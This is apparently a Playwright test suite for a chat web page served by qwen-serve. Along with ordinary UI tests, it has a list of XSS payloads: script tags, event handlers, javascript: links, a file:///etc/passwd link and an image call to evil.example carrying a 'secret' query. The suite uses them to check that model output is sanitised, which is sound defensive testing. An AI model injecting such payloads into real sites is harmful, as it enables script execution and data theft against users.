"""The chat page in a headless browser: what a person does, and what a model must not be able to do.

More than 400 lines: all share one browser, which takes seconds to start.
"""

import json
import time
from contextlib import ExitStack, contextmanager

import pytest

from cases.browser import CHROMIUM, LONG, MISSING, Tab, served
from qwen_serve.common.errors import ServeError

pytestmark = pytest.mark.skipif(MISSING is not None, reason=str(MISSING))


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


@pytest.fixture(scope="module")
def behind(tmp_path_factory):
    with served(tmp_path_factory.mktemp("page")) as found:
        yield found


@contextmanager
def opened(browser, behind, waits=True, **options):
    """The page in a browser of its own; at the end nothing went elsewhere, and nothing wrong."""
    context = browser.new_context(**{"locale": "en-US", "viewport": {"width": 1100, "height": 750}} | options)
    try:
        tab = Tab(context.new_page(), behind)
        tab.open(waits)
        yield tab
        own = (behind.server.url, f"blob:{behind.server.url}")
        assert [address for address in tab.requests if not address.startswith(own)] == []
        assert tab.complaints == []
    finally:
        context.close()


@pytest.fixture
def new_tab(browser, behind):
    """Opens a tab, as :func:`opened` does."""
    behind.pause_s = 0.0
    with ExitStack() as stack:
        yield lambda of=behind, waits=True, **options: stack.enter_context(opened(browser, of, waits, **options))


@pytest.fixture
def tab(new_tab):
    return new_tab()


@pytest.fixture(scope="module")
def still(browser, behind):
    """A tab in which nothing is asked: texts are shown."""
    with opened(browser, behind) as tab:
        yield tab


def test_a_question_is_answered_and_the_page_says_how_fast(tab):
    assert tab.chat("hello") == "HELLO"
    assert tab.chat("more") == "MORE"
    assert tab.texts("user") == ["hello", "more"]
    figures = tab.page.locator(".message.assistant .figures summary").last.inner_text()
    assert figures.startswith("5 tokens · ")
    assert "tokens/s" in figures
    assert "first after" in figures
    assert tab.page.inner_text("#used").endswith(" / 1,000")
    assert tab.page.title().startswith("hello")
    assert [message["role"] for message in tab.bodies[-1]["messages"]] == ["user", "assistant", "user"]


def test_an_answer_is_shown_as_it_comes_and_can_be_stopped_and_continued(tab, behind):
    behind.pause_s = 0.02
    tab.ask("long")
    tab.until("document.querySelector('.assistant .body')?.textContent.includes('word3')")
    assert tab.page.locator("#stop").is_visible()
    assert not tab.page.locator("#send").is_visible()
    tab.page.keyboard.press("Escape")
    tab.settle()
    behind.pause_s = 0.0
    behind.server.wait_until_idle()  # the server has given it up, too
    begun = tab.last()
    assert LONG.startswith(begun)
    assert begun != LONG
    assert "stopped" in tab.page.inner_text(".assistant .figures")
    tab.press("Continue")
    tab.settle()
    assert tab.last() == LONG
    assert tab.page.locator(".message.assistant").count() == 1
    assert tab.page.get_by_role("button", name="Continue").count() == 0


def test_a_question_that_is_edited_is_a_branch(tab):
    tab.chat("one")
    tab.chat("two")
    first = tab.page.locator(".message.user").first
    first.get_by_role("button", name="Edit").click()
    first.locator("textarea").fill("three")
    first.locator("textarea").press("Enter")
    tab.settle()
    assert (tab.texts("user"), tab.texts("assistant")) == (["three"], ["THREE"])
    tab.press("Previous version", "user")
    assert (tab.texts("user"), tab.texts("assistant")) == (["one", "two"], ["ONE", "TWO"])
    tab.page.locator(".message.user").first.get_by_role("button", name="Next version").click()
    assert tab.texts("user") == ["three"]


def test_an_answer_can_be_had_again_and_both_are_kept(tab):
    tab.chat("again")
    tab.press("Regenerate")
    tab.settle()
    assert "2/2" in tab.page.inner_text(".assistant .buttons")
    tab.press("Previous version")
    assert "1/2" in tab.page.inner_text(".assistant .buttons")
    tab.press("Delete")
    assert tab.texts("assistant") == ["AGAIN"]
    assert "/2" not in tab.page.inner_text(".assistant .buttons")


def test_what_was_said_is_there_after_a_reload(tab):
    tab.chat("keep this")
    tab.page.click("#new")
    tab.chat("and that")
    tab.page.fill("#draft", "half a thought")
    tab.page.wait_for_timeout(1500)  # longer than a draft waits to be kept
    tab.page.reload()
    tab.page.wait_for_selector(".message.assistant")
    assert tab.texts("assistant") == ["AND THAT"]
    assert tab.page.input_value("#draft") == "half a thought"
    assert tab.page.locator("#list button").all_inner_texts() == ["and that", "keep this"]
    tab.page.locator("#list button", has_text="keep this").click()
    assert tab.texts("assistant") == ["KEEP THIS"]
    assert tab.page.input_value("#draft") == ""


def test_an_answer_that_a_reload_has_cut_can_be_continued(tab, behind):
    behind.pause_s = 0.02
    tab.ask("long")
    tab.until("document.querySelector('.assistant .body')?.textContent.includes('word9 ')")
    tab.page.wait_for_timeout(1500)
    tab.page.reload()
    behind.pause_s = 0.0
    tab.page.wait_for_selector(".message.assistant")
    assert LONG.startswith(tab.last())
    assert len(tab.last()) > 10
    tab.press("Continue")
    tab.settle()
    assert tab.last() == LONG


def test_chats_are_found_renamed_and_deleted(tab):
    for text in ("apples", "pears"):
        tab.page.click("#new")
        tab.chat(text)
    tab.page.keyboard.press("Control+k")
    tab.page.keyboard.type("APPLE")
    names = tab.page.locator("#list button")
    assert names.all_inner_texts() == ["apples"]
    names.first.click()
    tab.typed = "fruit"
    tab.page.click("#more summary")
    tab.page.click("#rename")
    assert tab.page.inner_text("#title") == "fruit"
    tab.page.click("#more summary")
    tab.page.click("#remove")
    tab.page.fill("#search", "")
    assert names.all_inner_texts() == ["pears"]
    tab.page.wait_for_timeout(300)
    tab.page.reload()
    tab.page.wait_for_selector(".message.assistant")
    assert names.all_inner_texts() == ["pears"]


def test_a_chat_can_be_downloaded_and_imported(tab, tmp_path):
    tab.chat("say **bold**")
    tab.page.click("#more summary")
    with tab.page.expect_download() as download:
        tab.page.click("#as-markdown")
    assert download.value.suggested_filename == "say bold.md"
    text = download.value.path().read_text()
    assert text == "# say **bold**\n\n## You\n\nsay **bold**\n\n## Model\n\n**bold**\n"
    with tab.page.expect_download() as download:
        tab.page.click("#export")
    path = tmp_path / "chats.json"
    download.value.save_as(path)
    tab.page.set_input_files("#file", path)
    tab.until("document.querySelectorAll('#list button').length === 2")
    assert tab.texts("assistant") == ["bold"]
    assert "1 chats imported" in tab.page.inner_text("#notice")


EXPORTED = {"id": "m1", "parent": None, "role": "user", "content": "hi"}


@pytest.mark.parametrize(
    "wrong",
    [
        "no json",
        "[]",
        json.dumps({"format": "other", "conversations": []}),
        json.dumps({"format": "qwen-serve-chats-1", "conversations": [{}]}),
        *(
            json.dumps(
                {
                    "format": "qwen-serve-chats-1",
                    "conversations": [{"title": "t", "system": "", "messages": {"m1": EXPORTED | change}}],
                }
            )
            for change in ({"role": "root"}, {"parent": "m9"}, {"content": {"a": 1}}, {"calls": [{}]}, {"error": 3})
        ),
    ],
)
def test_a_file_that_is_no_export_changes_nothing(tab, tmp_path, wrong):
    path = tmp_path / "wrong.json"
    path.write_text(wrong)
    tab.page.set_input_files("#file", path)
    tab.page.wait_for_selector("#notice:not([hidden])")
    assert "wrong.json: this is no export of this page." in tab.page.inner_text("#notice")
    assert tab.page.locator("#list button").count() == 0


# What a model writes

MARKDOWN = """# Title

Some *slanted*, **bold**, ***both***, ~~gone~~ and `code`; snake_case_name, 2 * 3 * 4.
**注意：**不要忘记。

1. first
   - inner
   - [x] done
2. second

```python
if a < b:
    print("**no**")
```

| left | right |
|:-----|------:|
| a    | `b|c` |

> quoted

---
[link](https://example.org/a_(b)) and https://example.org/x_y_z.
"""
SHAPE = """
(node) => {
  const walk = (each) => each.nodeType === Node.TEXT_NODE
    ? each.data
    : [each.tagName.toLowerCase(), ...[...each.childNodes].map(walk)];
  return [...node.childNodes].map(walk);
}
"""


def rendered(tab, text):
    """The tree that the page makes of a text."""
    script = f"""async (text) => {{
      const {{ show }} = await import("/page/markdown.js");
      const node = document.createElement("div");
      show(node, text);
      return ({SHAPE})(node);
    }}"""
    return tab.page.evaluate(script, text)


def joined(tree):
    """A tree with neighbouring texts as one."""
    if isinstance(tree, str):
        return tree
    found = []
    for each in map(joined, tree):
        if found and isinstance(each, str) and isinstance(found[-1], str) and len(found) > 1:
            found[-1] += each
        else:
            found.append(each)
    return found


def test_markdown(still):
    found = joined(["div", *rendered(still, MARKDOWN)])[1:]
    title, text, items, code, table, quote, rule, links = found
    assert title == ["h2", "Title"]
    assert text == [
        "p", "Some ", ["em", "slanted"], ", ", ["strong", "bold"], ", ", ["em", ["strong", "both"]], ", ",
        ["del", "gone"], " and ", ["code", "code"], "; snake_case_name, 2 * 3 * 4.\n", ["strong", "注意："],
        "不要忘记。",
    ]  # fmt: skip
    assert items == ["ol", ["li", "first", ["ul", ["li", "inner"], ["li", "☑ done"]]], ["li", "second"]]
    assert code[1][:2] == ["div", ["span", "python"]]
    assert code[2] == ["pre", ["code", 'if a < b:\n    print("**no**")']]
    assert table == ["div", ["table", ["thead", ["tr", ["th", "left"], ["th", "right"]]],
                             ["tbody", ["tr", ["td", "a"], ["td", ["code", "b|c"]]]]]]  # fmt: skip
    assert quote == ["blockquote", ["p", "quoted"]]
    assert rule == ["hr"]
    assert links == ["p", ["a", "link"], " and ", ["a", "https://example.org/x_y_z"], "."]


def test_a_streamed_answer_ends_as_the_whole_text_does(still):
    script = f"""async (text) => {{
      const {{ show }} = await import("/page/markdown.js");
      const node = document.createElement("div");
      for (let end = 1; end <= text.length; end += 1) show(node, text.slice(0, end));
      return ({SHAPE})(node);
    }}"""
    assert still.page.evaluate(script, MARKDOWN) == rendered(still, MARKDOWN)


HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe src='javascript:window.pwned=1'></iframe>",
    "<body onload=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<object data='javascript:window.pwned=1'>",
    "<embed src='javascript:window.pwned=1'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<template><script>window.pwned=1</script></template>",
    "<!--><script>window.pwned=1</script>-->",
    "</div></article><script>window.pwned=1</script>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x]( javascript:window.pwned=1)",
    "[x](java\tscript:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:window.pwned=1)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://127.0.0.1/1)",
    "[x](//evil.example)",
    "[x](/v1/models)",
    "[x](\\javascript:window.pwned=1)",
    "[x](http:javascript:window.pwned=1)",
    "[x](https://a\" onmouseover=\"window.pwned=1)",
    "[<img src=x onerror=window.pwned=1>](https://example.org)",
    "[x](https://example.org \"t\" onclick=\"window.pwned=1\")",
    "![x](http://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "![<script>](javascript:window.pwned=1)",
    "<javascript:window.pwned=1>",
    "<http://example.org/\" onclick=\"window.pwned=1>",
    "[x]: javascript:window.pwned=1\n\n[x]",
    "```<script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```",
    "```\"onmouseover=window.pwned=1\nx\n```",
    "`<script>window.pwned=1</script>`",
    "# <script>window.pwned=1</script>",
    "> <img src=x onerror=window.pwned=1>",
    "- <img src=x onerror=window.pwned=1>",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](javascript:1) |",
    "**<script>window.pwned=1</script>**",
    "$$<script>window.pwned=1</script>$$",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202e<script>window.pwned=1</script>\u0000",
    "{{constructor.constructor('window.pwned=1')()}}",
]  # fmt: skip
ALLOWED = {
    "p", "a", "em", "strong", "del", "code", "pre", "div", "span", "button", "table", "thead", "tbody", "tr", "th",
    "td", "blockquote", "ul", "ol", "li", "hr", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip
FOUND = """
(node) => [...node.querySelectorAll("*")].map((each) => [
  each.tagName.toLowerCase(),
  Object.fromEntries([...each.attributes].map(({ name, value }) => [name, value])),
])
"""


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_writes_stays_text(still, text):
    """Shown by the page's own function, within the page."""
    script = f"""async (text) => {{
      const {{ show }} = await import("/page/markdown.js");
      const node = document.createElement("div");
      document.body.append(node);
      show(node, text);
      setTimeout(() => node.remove(), 100);
      return [({FOUND})(node), node.textContent];
    }}"""
    elements, shown = still.page.evaluate(script, text)
    for name, attributes in elements:
        assert name in ALLOWED
        assert attributes.keys() <= {"href", "title", "target", "rel", "class", "start", "tabindex", "type"}
        if "href" in attributes:
            assert attributes["href"].lower().startswith(("http://", "https://"))
            assert "noopener" in attributes["rel"]
    still.page.wait_for_timeout(20)
    assert still.page.evaluate("window.pwned") is None
    for words in ("window.pwned", "<script>", "onerror"):
        hidden = words in text and ("](http" in text or text.startswith("```"))  # in an address, or a block's language
        assert words not in text or hidden or words in shown


def test_a_hostile_answer_a_hostile_question_and_a_hostile_name(tab):
    hostile = "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>"
    assert tab.chat(f"say {hostile}") == hostile
    assert tab.texts("user") == [f"say {hostile}"]
    assert tab.page.locator("#list button").all_inner_texts() == [f"say {hostile}"[:60]]
    assert tab.page.locator("#messages img, #messages script, #list img").count() == 0
    assert tab.page.evaluate("window.pwned") is None


@pytest.mark.parametrize(
    "script",
    [
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned = 1'}))",
        "document.body.innerHTML = '<p>x</p>'",
        "fetch('http://127.0.0.1:9/')",
        "new Image().src = 'http://127.0.0.1:9/x.png'",
        "document.body.setAttribute('onclick', 'window.pwned = 1'), document.body.click()",
    ],
)
def test_the_content_policy_forbids_what_the_page_itself_never_does(new_tab, script):
    tab = new_tab()
    tab.page.evaluate(f"(async () => {{ try {{ await ({script}) }} catch {{ }} }})()")
    tab.page.wait_for_timeout(100)
    assert tab.page.evaluate("window.pwned") is None
    forbidden = [text for text in tab.complaints if "Content Security Policy" in text or "Trusted" in text]
    assert forbidden
    tab.complaints.clear()
    tab.requests.clear()  # what was forbidden is listed, too


@pytest.mark.parametrize(
    "piece",
    ["*a ", "**", "_a _", "[", "[a](", "![", "`", "` `` ", "> ", "- ", "  - ", "|a", "$$", "\\(", "~~a", "http://",
     "https://a.b/((", "*a **b ", "# ", "1. a\n", "\n", "| a\n|-\n", "***a*** ", "> - ", "![a](http://b)"],
)  # fmt: skip
def test_no_text_takes_long_to_show(still, piece):
    script = """async (text) => {
      const { show } = await import("/page/markdown.js");
      show(document.createElement("div"), text);
    }"""
    began = time.monotonic()
    still.page.evaluate(script, piece * (100_000 // len(piece)))
    assert time.monotonic() - began < 20  # what grows with the square of the length takes minutes


# Thinking, tools, settings


def test_thinking_is_folded(tab):
    assert tab.chat("think") == "It is four."
    thinking = tab.page.locator(".thinking")
    assert thinking.locator("summary").inner_text().startswith("Thought for ")
    assert thinking.get_attribute("open") is None
    thinking.locator("summary").click()
    tab.page.wait_for_selector(".thinking .markdown p")
    assert thinking.locator(".markdown").inner_text() == "Two and two."
    tab.page.uncheck("#think")
    tab.chat("hello")
    assert tab.bodies[-1]["reasoning_effort"] == "none"
    assert tab.bodies[-1]["messages"][1]["reasoning_content"].strip() == "Two and two."


def test_calls_of_tools_are_shown_and_answered_by_hand(tab):
    open_settings(tab)
    function = {"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}
    tab.page.fill("#set-tools", json.dumps([{"type": "function", "function": function}]))
    tab.page.click("#close-settings")
    tab.chat("tool")
    assert tab.page.inner_text(".call summary") == "Calls weather"
    assert json.loads(tab.page.inner_text(".call pre")) == {"city": "Köln"}
    tab.page.fill(".results textarea", "7 degrees")
    tab.page.click(".results button")
    tab.settle()
    assert "7 DEGREES" in tab.last()
    call, result = tab.bodies[-1]["messages"][1:3]
    assert result == {"role": "tool", "tool_call_id": call["tool_calls"][0]["id"], "content": "7 degrees"}
    assert tab.texts("tool") == ["7 degrees"]


def open_settings(tab):
    tab.page.click("#open-settings")
    tab.page.wait_for_selector("#settings[open]")


def test_settings_are_the_servers_until_they_are_changed(tab, behind):
    open_settings(tab)
    assert tab.page.get_attribute("#set-temperature", "placeholder") == "0.7 (server)"
    tab.page.fill("#set-temperature", "0.5")
    tab.page.fill("#set-top_p", "7")  # out of range, and not taken
    tab.page.fill("#set-max_tokens", "3")
    tab.page.fill("#set-system", "Be brief.")
    tab.page.keyboard.press("Escape")
    assert len(tab.chat("hello")) == 3
    assert "cut at the limit" in tab.page.inner_text(".assistant .figures")
    params = behind.script.seen[-1].params
    assert (params.temperature, params.max_tokens) == (0.5, 3)
    assert "top_p" not in tab.bodies[-1]
    assert tab.bodies[-1]["messages"][0] == {"role": "system", "content": "Be brief."}
    tab.page.reload()
    open_settings(tab)
    assert tab.page.input_value("#set-max_tokens") == "3"
    tab.page.get_by_role("button", name="Back to the server's defaults").click()
    assert tab.page.input_value("#set-max_tokens") == ""
    tab.page.click("#close-settings")
    tab.page.wait_for_selector(".message.assistant")
    assert tab.chat("hello again") == "HELLO AGAIN"
    assert {"temperature", "max_tokens"} & set(tab.bodies[-1]) == set()


def test_a_key_is_asked_for_and_sent(new_tab, tmp_path):
    with served(tmp_path, api_keys=("secret",)) as other:
        tab = new_tab(other, waits=False)
        tab.page.locator("#notice").get_by_role("button", name="Settings").click()
        assert "API key" in tab.page.inner_text("#notice")
        tab.page.fill("#set-key", "secret")
        tab.page.click("#close-settings")
        tab.until("document.querySelector('#model').textContent === 'scripted'")
        assert tab.page.locator("#notice").is_hidden()
        assert tab.chat("hello") == "HELLO"
        open_settings(tab)
        tab.page.fill("#set-key", "another")
        tab.page.click("#close-settings")
        tab.ask("hello?")
        tab.page.wait_for_selector(".message .error:not([hidden])")
        assert "Enter the server's API key in the settings." in tab.page.inner_text(".message .error:not([hidden])")


def told(tab):
    """What the page says of an answer that has failed."""
    tab.page.wait_for_selector(".message:last-child .error:not([hidden])")
    return tab.page.inner_text(".message:last-child .error:not([hidden])")


def test_an_error_says_what_to_do_and_can_be_tried_again(tab):
    tab.ask("x" * 1200)
    assert "Shorten the message, delete messages, or begin a new chat." in told(tab)
    assert "1000" in told(tab) or "999" in told(tab)
    tab.page.click("#new")
    full = ServeError("queue_full", "80 answers are running or waiting", retry_after=1)
    options = {"status": full.kind.status, "json": full.body(), "headers": full.headers()}
    tab.page.route("**/v1/chat/completions", lambda route: route.fulfill(**options))
    tab.ask("hello")
    assert "80 answers are running or waiting\n\nToo many people ask at once." in told(tab)
    tab.page.unroute("**/v1/chat/completions")
    tab.page.get_by_role("button", name="Try again").click()
    tab.until("document.querySelector('.assistant .body')?.textContent === 'HELLO'")
    assert tab.page.locator(".message .error:not([hidden])").count() == 0


def test_a_server_that_is_gone_is_told_and_found_again(tab):
    tab.page.route("**/v1/**", lambda route: route.abort())
    tab.ask("hello")
    assert "Start qwen-serve again" in told(tab)
    tab.page.unroute("**/v1/**")
    tab.page.get_by_role("button", name="Try again").click()
    tab.until("document.querySelector('.assistant .body')?.textContent === 'HELLO'")
    tab.complaints.clear()  # of the browser, that an address was not reached


def test_a_model_without_a_chat_template(new_tab, tmp_path):
    with served(tmp_path, raw=True) as other:
        tab = new_tab(other)
        assert "This model has no chat template" in tab.page.inner_text("#notice")


# How it looks, and by which keys it goes


@pytest.mark.parametrize(("scheme", "theme", "dark"), [("light", "auto", False), ("dark", "auto", True),
                                                       ("light", "dark", True), ("dark", "light", False)])  # fmt: skip
def test_light_and_dark(new_tab, scheme, theme, dark):
    tab = new_tab(color_scheme=scheme)
    open_settings(tab)
    tab.page.select_option("#set-theme", theme)
    colours = "(name) => getComputedStyle(document.body)[name].match(/\\d+/g).slice(0, 3).reduce((a, b) => a + +b, 0)"
    paper, ink = (tab.page.evaluate(colours, name) for name in ("backgroundColor", "color"))
    assert (paper < ink) is dark
    assert abs(paper - ink) > 450


AT_END = "((node) => node.scrollHeight - node.scrollTop - node.clientHeight < 40)(document.querySelector('#scroll'))"


@pytest.mark.parametrize("width", [320, 390, 768])
def test_a_phone(new_tab, width):
    tab = new_tab(viewport={"width": width, "height": 700}, has_touch=True)
    tab.chat(
        "say ```\n" + "wide " * 60 + "\n```\n\n" + "x" * 200 + "\n\n|" + " a long cell |" * 20 + "\n|" + "---|" * 20
    )
    assert tab.page.evaluate("document.documentElement.scrollWidth") == width
    assert tab.page.evaluate("document.querySelector('#scroll').scrollWidth") <= width
    if width < 700:
        assert not tab.page.locator("#side").is_visible()
        tab.page.click("#menu")
    tab.page.locator("#list button").click()
    tab.until(f"({AT_END})")
    tab.page.set_viewport_size({"width": width, "height": 420})  # a keyboard has come up
    tab.page.wait_for_timeout(300)
    assert tab.page.evaluate(AT_END)
    assert tab.page.locator("#down").is_hidden()
    tab.page.set_viewport_size({"width": width, "height": 700})
    box = tab.page.locator("#send").bounding_box()
    assert box["x"] + box["width"] <= width
    assert box["y"] + box["height"] <= 700


def test_keys(tab):
    draft = tab.page.locator("#draft")
    draft.focus()
    tab.page.keyboard.type("one")
    tab.page.keyboard.press("Shift+Enter")
    tab.page.keyboard.type("two")
    assert draft.input_value() == "one\ntwo"
    composing = "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true, cancelable: true})"
    draft.evaluate(f"(node) => node.dispatchEvent({composing})")  # Enter ends a word of an input method
    assert draft.input_value() == "one\ntwo"
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_selector(".message.assistant")
    tab.settle()
    assert tab.texts("user") == ["one\ntwo"]
    tab.page.keyboard.press("ArrowUp")
    editor = tab.page.locator(".editor textarea")
    assert editor.input_value() == "one\ntwo"
    tab.page.keyboard.press("Escape")
    assert editor.count() == 0
    tab.page.keyboard.press("Control+Shift+O")
    assert tab.texts("user") == []
    assert tab.page.evaluate("document.activeElement.id") == "draft"


def test_chinese(new_tab):
    tab = new_tab(locale="zh-CN")
    assert tab.page.inner_text("#new") == "新对话"
    assert tab.page.get_attribute("html", "lang") == "zh-CN"
    assert tab.chat("say 你好，世界") == "你好，世界"
    assert "token/秒" in tab.page.inner_text(".assistant .figures")
    open_settings(tab)
    shown = tab.page.inner_text("body").replace("Top-p", "").replace("Top-k", "").replace("Min-p", "")
    assert "undefined" not in shown


def test_code_is_copied(new_tab):
    tab = new_tab(permissions=["clipboard-read", "clipboard-write"])
    tab.chat("say ```js\nlet a = 1 < 2;\n```")
    tab.page.locator(".codebar button").click()
    tab.until("document.querySelector('.codebar button').textContent === 'Copied'")
    assert tab.page.evaluate("navigator.clipboard.readText()") == "let a = 1 < 2;"
